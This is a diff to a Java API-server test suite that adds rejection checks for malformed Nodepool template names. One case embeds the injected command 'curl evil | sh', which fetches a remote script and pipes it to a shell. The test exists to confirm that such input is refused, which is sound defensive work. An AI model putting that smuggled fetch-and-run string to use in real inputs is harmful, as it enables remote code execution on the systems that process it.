@@ -379,6 +379,10 @@ class HostileInputApiServerTest {
         refused("np-prefix-upper", "Nodepool", "npprefix", pool + ", instancePrefix: UPPER");
         refused("np-taint-key", "Nodepool", "nptaintkey", pool + ", taints: [{key: \"bad key\", effect: NoSchedule}]");
         refused("np-taint-effect", "Nodepool", "nptainteffect", pool + ", taints: [{key: k, effect: Sometimes}]");
+        // An image name is passed to a provider's API or a VirtualMachine: nothing a shell or a query reads as more.
+        refused("np-template-shell", "Nodepool", "nptplshell", pool + ", template: \"ubuntu; curl evil | sh\"");
+        refused("np-template-long", "Nodepool", "nptpllong", pool + ", template: " + "a".repeat(256));
+        refused("np-template-space", "Nodepool", "nptplspace", pool + ", template: \" Linux Ubuntu\"");
         condition(
                 "np-type-tiny",
                 "Nodepool",
